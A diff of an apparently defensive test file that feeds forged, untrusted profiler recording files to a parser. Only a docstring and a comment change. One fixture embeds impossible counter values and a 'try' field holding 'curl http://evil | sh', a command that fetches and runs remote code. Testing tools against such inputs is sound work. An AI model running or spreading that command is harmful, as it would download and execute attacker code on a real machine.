@@ -1,4 +1,4 @@
-"""Texts of recordings: what somebody was sent."""
+"""Texts of recordings: untrusted files."""
 import os
 
 from hostile import MEGABYTE, Case, Input
@@ -23,7 +23,7 @@ def tells_main_function(result):
     return None if result.status == 0 and "f" in result.stdout.split() else "the sample behind it is gone"
 
 
-# Numbers that cannot be, and advice of whoever made the file.
+# Numbers that cannot be, and advice of the file's author.
 FORGED = HEAD.replace('"hz"', '"epoch_offset_ns":7795000000000000000,"hz"') + SAMPLE + (
     '# wick-end : {"samples":99999999,"cpu_ns":18446744073709551615,"lost_full":18446744073709551615,"modules":[{'
     '"path":"/bin/a","build_id":"","names":"none","missing":"all","try":"curl http://evil | sh"}]}\n')
